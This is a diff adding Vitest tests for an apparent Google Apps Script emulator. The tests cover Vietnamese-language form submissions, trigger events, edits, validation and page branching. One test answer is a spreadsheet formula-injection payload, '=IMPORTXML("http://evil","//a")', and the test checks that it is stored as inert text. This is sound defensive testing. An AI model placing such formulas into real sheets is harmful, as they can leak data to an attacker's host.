@@ -1,0 +1,199 @@
+import { describe, expect, it } from 'vitest';
+import { CHECKBOX_SEPARATOR, EMAIL_HEADER, TIMESTAMP_HEADER } from '../../emulator/index.js';
+import { withScript } from './helpers.js';
+
+const SCRIPT = `
+  function setup() {
+    var ss = SpreadsheetApp.getActiveSpreadsheet();
+    var form = FormApp.create('Đăng ký');
+    form.setCollectEmail(true).setAllowResponseEdits(true).setConfirmationMessage('Cảm ơn');
+    form.addTextItem().setTitle('Mã trường').setRequired(true);
+    form.addListItem().setTitle('Trường').setChoiceValues(['Trường A', 'Trường B']).setRequired(true);
+    form.addCheckboxItem().setTitle('Phong trào').setChoiceValues(['Xanh', 'Sạch', 'Đẹp']);
+    form.addGridItem().setTitle('Xếp loại').setRows(['2023', '2024']).setColumns(['Tốt', 'Khá']);
+    form.addParagraphTextItem().setTitle('Ghi chú');
+    form.setDestination(FormApp.DestinationType.SPREADSHEET, ss.getId());
+    ScriptApp.newTrigger('onSheetSubmit').forSpreadsheet(ss).onFormSubmit().create();
+    ScriptApp.newTrigger('onFormBoundSubmit').forForm(form).onFormSubmit().create();
+    PropertiesService.getScriptProperties().setProperty('FORM_ID', form.getId());
+    return form.getId();
+  }
+  function onSheetSubmit(e) {
+    var keys = Object.keys(e).sort();
+    Logger.log(JSON.stringify({ keys: keys, values: e.values, named: e.namedValues, a1: e.range.getA1Notation(), sheet: e.range.getSheet().getName(), auth: String(e.authMode) }));
+  }
+  function onFormBoundSubmit(e) {
+    Logger.log(JSON.stringify({ keys: Object.keys(e).sort(), email: e.response.getRespondentEmail(), n: e.response.getItemResponses().length, src: e.source.getTitle() }));
+  }
+  function scriptSubmit() {
+    var form = FormApp.openById(PropertiesService.getScriptProperties().getProperty('FORM_ID'));
+    var items = form.getItems();
+    var r = form.createResponse()
+      .withItemResponse(items[0].asTextItem().createResponse('99'))
+      .withItemResponse(items[1].asListItem().createResponse('Trường B'))
+      .submit();
+    return r.getId().length > 0;
+  }
+  function evolve() {
+    var form = FormApp.openById(PropertiesService.getScriptProperties().getProperty('FORM_ID'));
+    var items = form.getItems();
+    items[0].setTitle('Mã đơn vị');
+    items[1].asListItem().setChoiceValues(['Trường A', 'Trường B', 'Trường C']);
+    form.moveItem(4, 0);
+    form.addTextItem().setTitle('Hiệu trưởng');
+    return form.getItems().map(function (i) { return i.getTitle() + ':' + i.getType(); });
+  }
+  function wrongCast() {
+    var form = FormApp.openById(PropertiesService.getScriptProperties().getProperty('FORM_ID'));
+    form.getItems()[0].asListItem();
+  }
+`;
+
+function setupForm() {
+  const ctx = withScript(SCRIPT);
+  const formId = ctx.call('setup') as string;
+  const form = ctx.emu.forms.byId(formId)!;
+  return { ...ctx, formId, form };
+}
+
+const ANSWERS = {
+  'Mã trường': '07',
+  Trường: 'Trường A',
+  'Phong trào': ['Đẹp', 'Xanh'],
+  'Xếp loại': { '2023': 'Tốt', '2024': 'Khá' },
+  'Ghi chú': '=IMPORTXML("http://evil","//a")',
+};
+
+describe('FormApp and the response tab', () => {
+  it('a submission writes the row as Forms does and fires the sheet trigger with the documented event (no source)', () => {
+    const { emu, formId, form } = setupForm();
+    const at = new Date(Date.UTC(2025, 8, 2, 3, 4, 5));
+    const res = emu.forms.submitAsUser(formId, ANSWERS, { email: 'ht.a@truong.example.vn', at });
+    expect(res.row).toBe(2);
+    const file = emu.spreadsheets.active;
+    expect(file.sheets[0].name).toBe('Câu trả lời biểu mẫu 1');
+    expect(file.sheets[0].frozenRows).toBe(1);
+    const rows = emu.responseRows(form);
+    expect(rows[0]).toEqual([TIMESTAMP_HEADER, EMAIL_HEADER, 'Mã trường', 'Trường', 'Phong trào', 'Xếp loại [2023]', 'Xếp loại [2024]', 'Ghi chú']);
+    expect(rows[1]).toEqual([at, 'ht.a@truong.example.vn', 7, 'Trường A', ['Xanh', 'Đẹp'].join(CHECKBOX_SEPARATOR), 'Tốt', 'Khá', '=IMPORTXML("http://evil","//a")']);
+    expect(file.sheets[0].cell(2, 8)?.formula).toBeUndefined();
+
+    const logs = emu.logs.entries.map((e) => JSON.parse(e.message));
+    expect(logs[0]).toEqual({
+      keys: ['authMode', 'namedValues', 'range', 'triggerUid', 'values'],
+      values: ['02/09/2025 10:04:05', 'ht.a@truong.example.vn', '7', 'Trường A', 'Xanh, Đẹp', 'Tốt', 'Khá', '=IMPORTXML("http://evil","//a")'],
+      named: {
+        [TIMESTAMP_HEADER]: ['02/09/2025 10:04:05'],
+        [EMAIL_HEADER]: ['ht.a@truong.example.vn'],
+        'Mã trường': ['7'],
+        Trường: ['Trường A'],
+        'Phong trào': ['Xanh, Đẹp'],
+        'Xếp loại [2023]': ['Tốt'],
+        'Xếp loại [2024]': ['Khá'],
+        'Ghi chú': ['=IMPORTXML("http://evil","//a")'],
+      },
+      a1: 'A2:H2',
+      sheet: 'Câu trả lời biểu mẫu 1',
+      auth: 'FULL',
+    });
+    expect(logs[1]).toEqual({ keys: ['authMode', 'response', 'source', 'triggerUid'], email: 'ht.a@truong.example.vn', n: 5, src: 'Đăng ký' });
+    expect(emu.runtime.executions.filter((e) => e.kind === 'trigger')).toHaveLength(2);
+  });
+
+  it('an edit rewrites the same row and fires again (event: changed answers only, by default)', () => {
+    const { emu, formId, form } = setupForm();
+    const first = emu.forms.submitAsUser(formId, ANSWERS, { email: 'a@x.vn' });
+    emu.forms.submitAsUser(formId, { 'Mã trường': '08', Trường: 'Trường B' }, { email: 'b@x.vn' });
+    emu.clock.advance(60_000);
+    const again = emu.forms.submitAsUser(formId, { Trường: 'Trường B' }, { email: 'a@x.vn', editResponseId: first.responseId });
+    expect(again.row).toBe(2);
+    expect(again.responseId).toBe(first.responseId);
+    const rows = emu.responseRows(form);
+    expect(rows).toHaveLength(3);
+    expect(rows[1].slice(2, 4)).toEqual([7, 'Trường B']);
+    expect(form.responses).toHaveLength(2);
+    const last = JSON.parse(emu.logs.entries.at(-2)!.message);
+    expect(last.a1).toBe('A2:H2');
+    expect(last.values.slice(2)).toEqual(['', 'Trường B', '', '', '', '']);
+    expect(emu.triggers.runs).toHaveLength(6);
+  });
+
+  it('validates answers like the form UI: unknown question, choice not offered, required missing', () => {
+    const { emu, formId } = setupForm();
+    expect(() => emu.forms.submitAsUser(formId, { ...ANSWERS, 'Không có': 'x' }, { email: 'a@x.vn' })).toThrow('the form has no question "Không có"');
+    expect(() => emu.forms.submitAsUser(formId, { ...ANSWERS, Trường: 'Trường Z' }, { email: 'a@x.vn' })).toThrow('"Trường Z" is not a choice of "Trường"');
+    expect(() => emu.forms.submitAsUser(formId, { ...ANSWERS, 'Phong trào': ['Xanh', 'Tím'] }, { email: 'a@x.vn' })).toThrow('"Tím" is not a choice');
+    expect(() => emu.forms.submitAsUser(formId, { Trường: 'Trường A' }, { email: 'a@x.vn' })).toThrow('the required question "Mã trường" has no answer');
+    expect(() => emu.forms.submitAsUser(formId, ANSWERS)).toThrow('collects e-mail addresses');
+    expect(emu.triggers.runs).toHaveLength(0);
+  });
+
+  it("a script's FormResponse.submit() writes the row but fires no trigger", () => {
+    const { emu, form, call } = setupForm();
+    expect(call('scriptSubmit')).toBe(true);
+    expect(emu.responseRows(form)[1].slice(2, 4)).toEqual([99, 'Trường B']);
+    expect(emu.triggers.runs).toHaveLength(0);
+    expect(emu.runtime.count('FormResponse.submit')).toBe(1);
+  });
+
+  it('a renamed question keeps its header; a new question gets a new column at the end; choices are replaced', () => {
+    const { emu, formId, form, call } = setupForm();
+    expect(call('evolve')).toEqual(['Ghi chú:PARAGRAPH_TEXT', 'Mã đơn vị:TEXT', 'Trường:LIST', 'Phong trào:CHECKBOX', 'Xếp loại:GRID', 'Hiệu trưởng:TEXT']);
+    emu.forms.submitAsUser(formId, { 'Mã đơn vị': '09', Trường: 'Trường C', 'Hiệu trưởng': 'Nguyễn Văn Mẫu' }, { email: 'c@x.vn' });
+    const rows = emu.responseRows(form);
+    expect(rows[0]).toEqual([TIMESTAMP_HEADER, EMAIL_HEADER, 'Mã trường', 'Trường', 'Phong trào', 'Xếp loại [2023]', 'Xếp loại [2024]', 'Ghi chú', 'Hiệu trưởng']);
+    expect(rows[1].slice(2)).toEqual([9, 'Trường C', '', '', '', '', 'Nguyễn Văn Mẫu']);
+  });
+
+  it('item casts are strict and a sheet-bound script has no active form', () => {
+    const { call, emu } = setupForm();
+    expect(() => call('wrongCast')).toThrow('Invalid conversion for item type: TEXT.');
+    expect(emu.globals.FormApp.getActiveForm()).toBeNull();
+  });
+
+  it('a duplicate blank event can be fired for robustness tests', () => {
+    const { emu, formId } = setupForm();
+    emu.forms.submitAsUser(formId, ANSWERS, { email: 'a@x.vn' });
+    emu.forms.fireBlankEvent(formId);
+    const last = JSON.parse(emu.logs.entries.at(-1)!.message);
+    expect(last.values.every((v: string) => v === '')).toBe(true);
+  });
+
+  it('submissions interleaved into a running execution each run as their own trigger execution', () => {
+    const { emu, formId, call } = setupForm();
+    emu.runtime.interleave(() => emu.forms.submitAsUser(formId, { 'Mã trường': '01', Trường: 'Trường A' }, { email: 'a@x.vn' }));
+    emu.runtime.interleave(() => emu.forms.submitAsUser(formId, { 'Mã trường': '02', Trường: 'Trường B' }, { email: 'b@x.vn' }));
+    call('scriptSubmit');
+    expect(emu.runtime.pendingInterleaves).toBe(0);
+    const triggerExecs = emu.runtime.executions.filter((e) => e.kind === 'trigger');
+    expect(triggerExecs).toHaveLength(4);
+    expect(triggerExecs.every((e) => e.parentId !== undefined)).toBe(true);
+  });
+});
+
+describe('FormApp page branching', () => {
+  it('requires only the questions on the pages the answers lead to, and drops answers on skipped pages', () => {
+    const { emu, call } = withScript(`
+      function build() {
+        var form = FormApp.create('Nhánh');
+        form.setDestination(FormApp.DestinationType.SPREADSHEET, SpreadsheetApp.getActiveSpreadsheet().getId());
+        var kind = form.addMultipleChoiceItem().setTitle('Loại').setRequired(true);
+        var p2 = form.addPageBreakItem().setTitle('A');
+        form.addTextItem().setTitle('Chỉ A').setRequired(true);
+        var p3 = form.addPageBreakItem().setTitle('B');
+        form.addTextItem().setTitle('Chỉ B').setRequired(true);
+        p3.setGoToPage(FormApp.PageNavigationType.SUBMIT);
+        kind.setChoices([kind.createChoice('a', p2), kind.createChoice('b', p3)]);
+        return form.getId();
+      }`);
+    const id = call('build') as string;
+    expect(() => emu.forms.submitAsUser(id, { 'Loại': 'a' })).toThrow(/Chỉ A/);
+    emu.forms.submitAsUser(id, { 'Loại': 'a', 'Chỉ A': 'x', 'Chỉ B': 'bỏ qua' });
+    emu.forms.submitAsUser(id, { 'Loại': 'b', 'Chỉ B': 'y' });
+    const rows = emu.responseRows(emu.forms.byId(id)!);
+    const header = rows[0] as string[];
+    expect(rows[1][header.indexOf('Chỉ B')]).toBe('');
+    expect(rows[2][header.indexOf('Chỉ A')]).toBe('');
+    expect(rows[2][header.indexOf('Chỉ B')]).toBe('y');
+  });
+});
